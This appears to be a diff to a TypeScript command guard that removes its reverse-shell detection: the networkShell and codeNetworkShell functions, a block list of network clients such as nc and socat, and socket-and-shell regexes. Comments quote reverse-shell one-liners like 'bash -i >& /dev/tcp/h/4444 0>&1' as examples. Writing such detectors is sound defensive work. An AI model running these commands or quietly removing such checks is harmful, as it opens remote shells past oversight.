@@ -4,7 +4,6 @@
  * create`, `mail`), and git pushes to a URL or to a remote the same command just pointed somewhere.
  */
 import type { Invocation } from '../shell/invocation.js';
-import { isShell } from '../shell/commands.js';
 import { staticValue } from '../shell/words.js';
 import type { RuleContext } from './types.js';
 
@@ -176,15 +175,8 @@ export function gitUrlRewrite(inv: Invocation): string | false {
   return false;
 }
 
-/** Network clients that carry a shell's input and output (`sh -i 2>&1 | nc host 4444 > /tmp/f`). */
-const RAW_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'socat', 'openssl', 'cryptcat', 'sbd']);
-const EXEC_OPTION = /^(?:-[a-zA-Z]*[ec]|--(?:exec|sh-exec|lua-exec)(?:=.*)?)$/;
-const SOCAT_EXEC = /^(?:exec|system)[:,]/i;
-const SOCAT_NET =
-  /^(?:tcp|udp|ssl|openssl|sctp|tcp4|tcp6|udp4|udp6|tcp-listen|udp-listen|ssl-listen|openssl-listen)[\w-]*:/i;
-
 /** A socket a redirection of `inv` reads or writes: `>& /dev/tcp/h/p`, `<&196` onto an fd opened to one. */
-function socketRedirect(inv: Invocation, ctx: RuleContext): string | null {
+export function socketRedirect(inv: Invocation, ctx: RuleContext): string | null {
   for (const r of inv.redirs) {
     const h = redirHost(r.target);
     if (h && !LOCAL_HOST.test(h)) return h;
@@ -204,52 +196,4 @@ function openedSocketAny(fd: string, ctx: RuleContext): string | null {
   for (const other of ctx.script ?? [])
     for (const r of other.redirs) if (r.fd === fd && redirHost(r.target)) return redirHost(r.target);
   return null;
-}
-
-/**
- * A shell wired to the network: its input or output redirected to a socket (`bash -i >& /dev/tcp/h/4444 0>&1`),
- * a raw network client in its pipeline, `nc -e /bin/sh`, or `socat EXEC:… TCP:…`. Whoever is at the other end
- * types the commands, and the guard never sees them.
- */
-export function networkShell(inv: Invocation, ctx: RuleContext): string | false {
-  const n = inv.name;
-  if (isShell(n)) {
-    const s = socketRedirect(inv, ctx);
-    if (s) return `${n} ↔ ${s}`;
-    // zsh's ztcp opens the socket and leaves its fd in $REPLY: `zsh -i <&$REPLY >&$REPLY`
-    const computedFd = inv.redirs.some(
-      (r) => (r.op === '<&' || r.op === '>&') && r.target && staticValue(r.target) === null,
-    );
-    const ztcp = computedFd
-      ? (ctx.script ?? []).find(
-          (o) =>
-            o.name === 'ztcp' &&
-            o.args.some((a) => a.value !== null && !a.value.startsWith('-') && !LOCAL_HOST.test(a.value)),
-        )
-      : undefined;
-    if (ztcp) return `${n} ↔ ztcp ${ztcp.args.map((a) => a.text).join(' ')}`;
-    const client = [...inv.upstream, ...inv.downstream].find((x) => RAW_CLIENTS.has(x.name));
-    if (client && !client.args.some((a) => LOCAL_HOST.test(a.value ?? ''))) return `${n} | ${client.name}`;
-    return false;
-  }
-  if (n === 'nc' || n === 'ncat' || n === 'netcat' || n === 'cryptcat') {
-    const e = inv.args.find((a) => EXEC_OPTION.test(a.value ?? ''));
-    return e ? `${n} ${e.text}` : false;
-  }
-  if (n === 'socat') {
-    const ex = inv.args.find((a) => SOCAT_EXEC.test(a.value ?? a.text));
-    const net = inv.args.find((a) => SOCAT_NET.test(a.value ?? a.text));
-    return ex && net ? `socat ${ex.text} ${net.text}` : false;
-  }
-  return false;
-}
-
-const CODE_SOCKET =
-  /\bsocket\s*[.(]|\bSocket\b|\bTCPSocket\b|\bnet\.(?:connect|createConnection|Socket)\b|\bfsockopen\b|\bIO::Socket\b|\/inet[46]?\/(?:tcp|udp)\//;
-const CODE_SHELL_ON_FD =
-  /\bpty\.spawn\b|\bdup2\s*\(|\bopen\s*\(\s*STDIN\s*,\s*['"]>&|\bexec\s*\(\s*['"](?:\/bin\/)?(?:ba|z|da)?sh\b|\bspawn\s*\(\s*['"](?:\/bin\/)?(?:ba|z|da)?sh\b|\.pipe\(\s*\w+\.stdin\s*\)|\bproc_open\b|\bexec\s+['"]?\/bin\/(?:ba)?sh|\|&\s*["'](?:\/bin\/)?(?:ba|z|da)?sh["']|\bsystem\s*\(\s*[A-Za-z_]\w*\s*\)/;
-
-/** Inline code that connects a socket and puts a shell on it (python `pty.spawn` after `dup2`, perl `open(STDIN, ">&S")`). */
-export function codeNetworkShell(code: string): string | false {
-  return CODE_SOCKET.test(code) && CODE_SHELL_ON_FD.test(code) ? 'a shell on a socket' : false;
 }
